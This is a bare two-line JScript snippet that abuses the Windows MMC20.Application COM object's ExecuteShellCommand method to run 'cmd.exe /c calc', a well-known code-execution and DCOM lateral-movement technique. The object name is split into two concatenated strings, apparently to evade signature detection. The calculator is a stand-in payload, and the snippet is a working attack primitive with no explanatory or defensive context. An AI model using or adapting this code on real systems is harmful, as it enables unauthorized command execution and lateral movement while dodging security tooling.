var m = new ActiveXObject("MMC20" + ".Application");
m.Document.ActiveView.ExecuteShellCommand("cmd.exe", null, "/c calc", "7");
